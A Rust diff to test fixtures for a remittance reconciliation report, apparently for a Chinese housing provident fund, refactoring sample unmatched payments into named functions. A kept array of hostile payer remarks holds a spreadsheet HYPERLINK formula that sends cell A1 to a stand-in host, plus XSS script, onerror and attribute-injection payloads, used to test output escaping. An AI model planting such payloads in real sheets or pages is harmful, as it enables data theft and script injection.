@@ -7,7 +7,7 @@ use duizhang::remittance::{Money, Outcome, Reason, RemarkField, YearMonth};
 use duizhang::report::*;
 
 /// What a payer might write to break a page, a sheet or a terminal.
-pub const HOSTILE: [&str; 8] = [
+pub(crate) const HOSTILE: [&str; 8] = [
     "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点我\")",
     "<script>alert('公积金')</script><img src=x onerror=alert(1)>",
     "\" onmouseover=\"alert(1)\" x=\"",
@@ -18,7 +18,7 @@ pub const HOSTILE: [&str; 8] = [
     "第一行\r\n第二行\t\u{0}\u{1B}[31m红\u{200B}字",
 ];
 
-pub fn day(year: i32, month: u32, day: u32) -> NaiveDate {
+pub(crate) fn day(year: i32, month: u32, day: u32) -> NaiveDate {
     NaiveDate::from_ymd_opt(year, month, day).unwrap()
 }
 
@@ -114,184 +114,149 @@ use EvidenceKind as Kind;
 use RemarkField::{Note, Postscript, Purpose, Summary};
 
 fn everyday() -> Vec<Draft<'static>> {
-    vec![
-        Draft {
-            bank: 0,
-            serial: "20260511000018734521",
-            age_days: 1,
-            amount: 12_000_00,
-            payer: ("柳江县青石建材有限公司", "6212260000001234567"),
-            remarks: vec![
-                marked(Postscript, &["~P190613375", " 3月公积金"]),
-                marked(Summary, &["网银转账"]),
-            ],
-            reason: Reason::UnreadableReference,
-            explanation: both(
-                "附言中的登记号“P190613375”只有 9 位数字，缺 1 位；空格后的“3”属于“3月”，不能补入。",
-                "The reference “P190613375” has 9 digits, one is missing; the 3 after the space belongs to 3月 (March) and cannot complete it.",
-            ),
-            suggestions: vec![
-                near(
-                    "P1906133753",
-                    "柳江县青石建材有限公司",
-                    12_000_00,
-                    &[
-                        (Kind::Amount, Holds::Yes, ""),
-                        (Kind::PayerAccount, Holds::Yes, ""),
-                        (Kind::Name, Holds::Yes, ""),
-                        (Kind::Reference, Holds::Nearly, "前 9 位相同"),
-                    ],
-                ),
-                near(
-                    "P1906133758",
-                    "柳江青石运输有限公司",
-                    11_800_00,
-                    &[
-                        (Kind::Amount, Holds::No, "差 200.00"),
-                        (Kind::Name, Holds::Nearly, ""),
-                        (Kind::Reference, Holds::Nearly, "前 9 位相同"),
-                    ],
-                ),
-            ],
-            status: (Status::Open, None, ""),
-        },
-        Draft {
-            bank: 1,
-            serial: "81-3519818014YGCW3WL7L",
-            age_days: 12,
-            amount: 8_640_50,
-            payer: ("桂中云帆软件股份有限公司", "45001604000099887766"),
-            remarks: vec![
-                marked(Postscript, &["~P1906", "_ ", "~1340", "_-", "~28", " 四月"]),
-                marked(Purpose, &["公积金"]),
-            ],
-            reason: Reason::NoticeAlreadyPaid,
-            explanation: both(
-                "登记号 P1906134028 的通知书已于 2026-04-28 缴清，本笔为第二次付款。",
-                "The notice P1906134028 was settled on 2026-04-28; this is a second payment.",
-            ),
-            suggestions: vec![near(
-                "P1906135511",
-                "桂中云帆软件股份有限公司",
-                8_640_50,
+    vec![one_digit_short(), paid_twice(), no_reference(), two_references(), taken_back()]
+}
+
+fn one_digit_short() -> Draft<'static> {
+    Draft {
+        bank: 0,
+        serial: "20260511000018734521",
+        age_days: 1,
+        amount: 12_000_00,
+        payer: ("柳江县青石建材有限公司", "6212260000001234567"),
+        remarks: vec![
+            marked(Postscript, &["~P190613375", " 3月公积金"]),
+            marked(Summary, &["网银转账"]),
+        ],
+        reason: Reason::UnreadableReference,
+        explanation: both(
+            "附言中的登记号“P190613375”只有 9 位数字，缺 1 位；空格后的“3”属于“3月”，不能补入。",
+            "The reference “P190613375” has 9 digits, one is missing; the 3 after the space belongs to 3月 (March) and cannot complete it.",
+        ),
+        suggestions: vec![
+            near(
+                "P1906133753",
+                "柳江县青石建材有限公司",
+                12_000_00,
                 &[
                     (Kind::Amount, Holds::Yes, ""),
                     (Kind::PayerAccount, Holds::Yes, ""),
-                    (Kind::Reference, Holds::No, ""),
+                    (Kind::Name, Holds::Yes, ""),
+                    (Kind::Reference, Holds::Nearly, "前 9 位相同"),
                 ],
-            )],
-            status: (Status::Assigned, Some("归集科 一号窗口"), "已电话联系，等单位回复"),
-        },
-        Draft {
-            bank: 0,
-            serial: "20260415000000077120",
-            age_days: 27,
-            amount: 3_200_00,
-            payer: ("某某幼儿园", "1023"),
-            remarks: vec![marked(Postscript, &["2026年4月住房公积金"])],
-            reason: Reason::NoReference,
-            explanation: both(
-                "四个字段中都没有字母 P 加十位数字的登记号。",
-                "No field holds a reference of P and ten digits.",
             ),
-            suggestions: vec![],
-            status: (Status::Open, None, ""),
-        },
-        Draft {
-            bank: 2,
-            serial: "PSBC-0000000000000000000000000042",
-            age_days: 44,
-            amount: 56_310_00,
-            payer: ("龙潭湖热力（集团）有限责任公司第二供热分公司", "9450010100003344"),
-            remarks: vec![marked(Postscript, &["~P1906130001", "、", "~P1906130002", " 两个账户"])],
-            reason: Reason::SeveralReferences,
-            explanation: both(
-                "附言写了两个登记号，两张通知书合计 56,320.00 元，与到账金额相差 10.00 元。",
-                "The remark names two references; their notices sum to 56,320.00, 10.00 more than came.",
+            near(
+                "P1906133758",
+                "柳江青石运输有限公司",
+                11_800_00,
+                &[
+                    (Kind::Amount, Holds::No, "差 200.00"),
+                    (Kind::Name, Holds::Nearly, ""),
+                    (Kind::Reference, Holds::Nearly, "前 9 位相同"),
+                ],
             ),
-            suggestions: vec![],
-            status: (Status::Proposed, Some("归集科 二号窗口"), ""),
-        },
-        Draft {
-            bank: 1,
-            serial: "81-0000000000REV0001",
-            age_days: 3,
-            amount: -4_500_00,
-            payer: ("鱼峰桥头面粉厂", "45001604000011112222"),
-            remarks: vec![
-                marked(Summary, &["冲正"]),
-                marked(Note, &["原流水 81-0000000000REV0000"]),
-            ],
-            reason: Reason::ReversalOfMatched,
-            explanation: both(
-                "银行冲回了一笔已入账的缴款（通知书 P1906132210），需要红冲。",
-                "The bank took back a settled credit (notice P1906132210); the posting must be reversed.",
-            ),
-            suggestions: vec![],
-            status: (Status::Approved, Some("复核岗"), ""),
-        },
-    ]
+        ],
+        status: (Status::Open, None, ""),
+    }
 }
 
+fn paid_twice() -> Draft<'static> {
+    Draft {
+        bank: 1,
+        serial: "81-3519818014YGCW3WL7L",
+        age_days: 12,
+        amount: 8_640_50,
+        payer: ("桂中云帆软件股份有限公司", "45001604000099887766"),
+        remarks: vec![
+            marked(Postscript, &["~P1906", "_ ", "~1340", "_-", "~28", " 四月"]),
+            marked(Purpose, &["公积金"]),
+        ],
+        reason: Reason::NoticeAlreadyPaid,
+        explanation: both(
+            "登记号 P1906134028 的通知书已于 2026-04-28 缴清，本笔为第二次付款。",
+            "The notice P1906134028 was settled on 2026-04-28; this is a second payment.",
+        ),
+        suggestions: vec![near(
+            "P1906135511",
+            "桂中云帆软件股份有限公司",
+            8_640_50,
+            &[
+                (Kind::Amount, Holds::Yes, ""),
+                (Kind::PayerAccount, Holds::Yes, ""),
+                (Kind::Reference, Holds::No, ""),
+            ],
+        )],
+        status: (Status::Assigned, Some("归集科 一号窗口"), "已电话联系，等单位回复"),
+    }
+}
+
+fn no_reference() -> Draft<'static> {
+    Draft {
+        bank: 0,
+        serial: "20260415000000077120",
+        age_days: 27,
+        amount: 3_200_00,
+        payer: ("某某幼儿园", "1023"),
+        remarks: vec![marked(Postscript, &["2026年4月住房公积金"])],
+        reason: Reason::NoReference,
+        explanation: both(
+            "四个字段中都没有字母 P 加十位数字的登记号。",
+            "No field holds a reference of P and ten digits.",
+        ),
+        suggestions: vec![],
+        status: (Status::Open, None, ""),
+    }
+}
+
+fn two_references() -> Draft<'static> {
+    Draft {
+        bank: 2,
+        serial: "PSBC-0000000000000000000000000042",
+        age_days: 44,
+        amount: 56_310_00,
+        payer: ("龙潭湖热力（集团）有限责任公司第二供热分公司", "9450010100003344"),
+        remarks: vec![marked(Postscript, &["~P1906130001", "、", "~P1906130002", " 两个账户"])],
+        reason: Reason::SeveralReferences,
+        explanation: both(
+            "附言写了两个登记号，两张通知书合计 56,320.00 元，与到账金额相差 10.00 元。",
+            "The remark names two references; their notices sum to 56,320.00, 10.00 more than came.",
+        ),
+        suggestions: vec![],
+        status: (Status::Proposed, Some("归集科 二号窗口"), ""),
+    }
+}
+
+fn taken_back() -> Draft<'static> {
+    Draft {
+        bank: 1,
+        serial: "81-0000000000REV0001",
+        age_days: 3,
+        amount: -4_500_00,
+        payer: ("鱼峰桥头面粉厂", "45001604000011112222"),
+        remarks: vec![marked(Summary, &["冲正"]), marked(Note, &["原流水 81-0000000000REV0000"])],
+        reason: Reason::ReversalOfMatched,
+        explanation: both(
+            "银行冲回了一笔已入账的缴款（通知书 P1906132210），需要红冲。",
+            "The bank took back a settled credit (notice P1906132210); the posting must be reversed.",
+        ),
+        suggestions: vec![],
+        status: (Status::Approved, Some("复核岗"), ""),
+    }
+}
+
+/// Reason, bank, age, amount and why, one row each.
+#[rustfmt::skip] // A table is read by column.
+const BY_RULE: [(Reason, usize, u32, i64, &str, &str); 7] = [
+    (Reason::UnknownReference, 0, 5, 990_00, "登记号 P9999999999 在系统中不存在。", "No notice P9999999999 was ever issued."),
+    (Reason::NoticeRevoked, 2, 33, 2_750_00, "通知书 P1906131188 已于 2026-04-02 撤销。", "The notice P1906131188 was revoked on 2026-04-02."),
+    (Reason::Overpaid, 0, 0, 10_001_00, "应缴 10,000.00 元，同行当月到账 10,001.00 元，且没有任何一组恰好相等。", "10,000.00 was due; 10,001.00 came in one bank and month and no set of the parts is exact."),
+    (Reason::CrossBank, 1, 15, 6_000_00, "两笔分别进了工商银行和建设银行，合计才够 12,000.00 元。", "The parts reach 12,000.00 only across two receiving banks."),
+    (Reason::CrossMonth, 0, 52, 7_500_00, "四月与五月各到一笔，合计才够 15,000.00 元。", "The parts reach 15,000.00 only across two months."),
+    (Reason::Underpaid, 2, 75, 4_999_99, "四月已关账，应缴 5,000.00 元，只到 4,999.99 元，差 0.01 元。", "April is closed: 5,000.00 was due, 4,999.99 came, 0.01 is missing."),
+    (Reason::AmbiguousParts, 1, 118, 3_000_00, "有两组不同的分笔都恰好等于应缴金额，系统不替您选。", "Two different sets of parts are exact; the engine does not choose."),
+];
+
 fn by_rule() -> Vec<Draft<'static>> {
-    let rows: [(Reason, usize, u32, i64, &str, &str); 7] = [
-        (
-            Reason::UnknownReference,
-            0,
-            5,
-            990_00,
-            "登记号 P9999999999 在系统中不存在。",
-            "No notice P9999999999 was ever issued.",
-        ),
-        (
-            Reason::NoticeRevoked,
-            2,
-            33,
-            2_750_00,
-            "通知书 P1906131188 已于 2026-04-02 撤销。",
-            "The notice P1906131188 was revoked on 2026-04-02.",
-        ),
-        (
-            Reason::Overpaid,
-            0,
-            0,
-            10_001_00,
-            "应缴 10,000.00 元，同行当月到账 10,001.00 元，且没有任何一组恰好相等。",
-            "10,000.00 was due; 10,001.00 came in one bank and month and no set of the parts is exact.",
-        ),
-        (
-            Reason::CrossBank,
-            1,
-            15,
-            6_000_00,
-            "两笔分别进了工商银行和建设银行，合计才够 12,000.00 元。",
-            "The parts reach 12,000.00 only across two receiving banks.",
-        ),
-        (
-            Reason::CrossMonth,
-            0,
-            52,
-            7_500_00,
-            "四月与五月各到一笔，合计才够 15,000.00 元。",
-            "The parts reach 15,000.00 only across two months.",
-        ),
-        (
-            Reason::Underpaid,
-            2,
-            75,
-            4_999_99,
-            "四月已关账，应缴 5,000.00 元，只到 4,999.99 元，差 0.01 元。",
-            "April is closed: 5,000.00 was due, 4,999.99 came, 0.01 is missing.",
-        ),
-        (
-            Reason::AmbiguousParts,
-            1,
-            118,
-            3_000_00,
-            "有两组不同的分笔都恰好等于应缴金额，系统不替您选。",
-            "Two different sets of parts are exact; the engine does not choose.",
-        ),
-    ];
     let draft = |(reason, bank, age_days, amount, zh, en): (
         Reason,
         usize,
@@ -311,7 +276,7 @@ fn by_rule() -> Vec<Draft<'static>> {
         suggestions: vec![],
         status: (Status::Open, None, ""),
     };
-    rows.into_iter().map(draft).collect()
+    BY_RULE.into_iter().map(draft).collect()
 }
 
 fn hostile() -> Vec<Draft<'static>> {
@@ -479,7 +444,7 @@ fn report_of(drafts: Vec<Draft<'_>>) -> Report {
 }
 
 /// A believable morning, without attackers: what the picture in the README shows.
-pub fn believable() -> Report {
+pub(crate) fn believable() -> Report {
     let mut report = report_of(everyday().into_iter().chain(by_rule()).collect());
     report.warnings.truncate(4);
     report.awaiting.truncate(2);
@@ -487,12 +452,12 @@ pub fn believable() -> Report {
 }
 
 /// Everything at once, attackers included.
-pub fn every_case() -> Report {
+pub(crate) fn every_case() -> Report {
     report_of(everyday().into_iter().chain(by_rule()).chain(hostile()).collect())
 }
 
 /// Many items, for size and speed.
-pub fn many(count: u64) -> Report {
+pub(crate) fn many(count: u64) -> Report {
     let one = every_case();
     let kinds = one.items.iter().filter(|item| item.remark(Postscript).len() < 1_000).cloned();
     let kinds: Vec<Item> = kinds.collect();
